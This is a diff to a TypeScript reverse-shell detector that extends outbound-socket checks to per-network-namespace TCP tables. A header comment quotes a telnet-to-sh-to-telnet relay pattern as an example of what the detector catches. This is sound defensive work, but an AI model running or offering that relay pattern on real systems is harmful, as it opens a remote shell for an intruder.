@@ -15,8 +15,8 @@
  *   sockets to one remote host, one per direction (`telnet H P1 | sh | telnet H P2`);
  * - the socket is outbound: the kernel saw it connect (an SSH session's pty master sits with
  *   an accepted socket, tmux and screen hold pty masters and no socket at all), or it existed
- *   as observation began and /proc/net/tcp shows no listener on its local port
- *   (host/tcp-table.ts).
+ *   as observation began, or no connect record names it, and the TCP table of its network
+ *   namespace shows no listener on its local port (host/tcp-table.ts, namespace-tables.ts).
  *
  * No time window and no hop count (docs/design.md §9: both are hints an attacker steps
  * around by waiting or adding a `cat`). A shell stays a candidate as long as it lives; a chain
@@ -38,6 +38,7 @@ import type { ExistingTcpSocket, HostView } from "../../host/host-view.js";
 import { processKey } from "../../process/process-view.js";
 import { OutboundRegistry, outboundSocketOf, type OutboundSocket } from "../sockets/outbound-registry.js";
 import { InterpreterContents, identifyProgram, readsCommandsFromStdin, type IdentifiedBy, type InterpreterFamily } from "../stdio/interpreters.js";
+import { NamespaceTcpTables } from "./namespace-tables.js";
 import { holdingsNow, ptyMasterKey, ptySlaveKey, socketKey, stdioHolding, type Access, type EndpointKey, type Holding } from "./holdings.js";
 
 /**
@@ -131,6 +132,14 @@ const NO_PIDS: ReadonlySet<number> = new Set();
 const ROOM_LOOKS = 16;
 /** How many ancestors of an exec are checked for a candidate shell that spawned it. */
 const DESCENT_CHECKED = 4;
+
+/**
+ * Network namespaces whose TCP tables one evaluation may read (namespace-tables.ts): a
+ * holder's, the shell's and the sensor's own when all three differ. Each read costs the host's
+ * whole TCP hash table (~11 ms on a 24 GiB host), so a chain through processes of many
+ * namespaces is cut here and counted incomplete rather than costing a read per namespace.
+ */
+const NETNS_TABLES = 3;
 
 /** Indexed processes past their age checked for liveness per event (each check is one /proc look). */
 const INDEX_CHECKS_PER_EVENT = 2;
@@ -381,9 +390,10 @@ export class RelayGraph {
       return cache.get(k);
     };
     let awaiting = false;
-    const verdict = this.evaluateWith(p, ctx, holdingsOf);
+    const tables = new NamespaceTcpTables(host, NETNS_TABLES);
+    const verdict = this.evaluateWith(p, ctx, holdingsOf, tables);
     p.awaitingLook = awaiting;
-    if (verdict === undefined && cut) this.incomplete++;
+    if (verdict === undefined && (cut || tables.cut)) this.incomplete++;
     return verdict === undefined ? undefined : this.allowAgent(verdict, ctx);
   }
 
@@ -405,21 +415,28 @@ export class RelayGraph {
     return entry === undefined ? verdict : { ...verdict, allowedAgent: entry };
   }
 
-  private evaluateWith(p: Pending, ctx: RuleContext, holdingsOf: (n: Node) => Holding[] | undefined): RelayVerdict | undefined {
+  private evaluateWith(p: Pending, ctx: RuleContext, holdingsOf: (n: Node) => Holding[] | undefined, tables: NamespaceTcpTables): RelayVerdict | undefined {
     const { processes } = ctx;
     const shell = p.exec.task;
     // A socket on the way that no connect record names: connected by a route the sensor does
-    // not see (io_uring's IORING_OP_CONNECT), or forgotten at the socket bound. The host's TCP
-    // tables say whether it is outbound (no listener on its local port), read at most once per
-    // evaluation and only when a chain reaches such a socket.
-    let table: Map<number, OutboundSocket> | undefined;
-    const socketOf = (ino: number): OutboundSocket | undefined => {
+    // not see (io_uring's IORING_OP_CONNECT), or forgotten at the socket bound. The TCP tables
+    // say whether it is outbound (no listener on its local port): those of the holder's
+    // network namespace, the shell's, then the sensor's own (namespace-tables.ts), each read
+    // at most once per evaluation and only when a chain reaches such a socket. The same look
+    // covers sockets that existed before the sensor started in another namespace than the
+    // sensor's (prepare() reads the sensor's own only): a pending shell whose chain reaches one
+    // finds it here, named connect_unseen (the tables do not tell "before" from "unseen").
+    const unseen = new Map<number, OutboundSocket | undefined>();
+    const socketOf = (ino: number, holder?: Node): OutboundSocket | undefined => {
       const known = this.socket(ino);
       if (known !== undefined) return known;
-      table ??= new Map(ctx.host.tcpSockets().filter((t) => t.origin === "outbound").map((t) => [t.ino, {
+      if (unseen.has(ino)) return unseen.get(ino);
+      const t = tables.find(ino, holder === undefined ? [shell.pid] : [holder.pid, shell.pid]);
+      const socket: OutboundSocket | undefined = t === undefined || t.origin !== "outbound" ? undefined : {
         ino: t.ino, pid: 0, startNs: 0, comm: "", timeMs: p.exec.timeMs, family: t.family, local: t.local, remote: t.remote, connectUnseen: true as const,
-      }]));
-      return table.get(ino);
+      };
+      unseen.set(ino, socket);
+      return socket;
     };
     const shellHoldings = holdingsOf(shell);
     if (shellHoldings === undefined) return undefined;
@@ -474,7 +491,7 @@ export class RelayGraph {
     shell: Node,
     neighbours: Node[],
     holdingsOf: (n: Node) => Holding[] | undefined,
-    socketOf: (ino: number) => OutboundSocket | undefined,
+    socketOf: (ino: number, holder: Node) => OutboundSocket | undefined,
     processes: ProcessView,
   ): Map<number, { links: ChainLink[]; fds: Set<number> }> {
     const found = new Map<number, { links: ChainLink[]; fds: Set<number> }>();
@@ -498,7 +515,7 @@ export class RelayGraph {
               const info = processes.get(holder.pid, holder.startNs);
               const links = [...f.links, link(holder, info, via)];
               const sockets = held.flatMap((h) => {
-                const s = h.key.startsWith("sock:") ? socketOf(Number(h.key.slice(5))) : undefined;
+                const s = h.key.startsWith("sock:") ? socketOf(Number(h.key.slice(5)), holder) : undefined;
                 return s !== undefined ? [s] : [];
               });
               for (const s of sockets) {
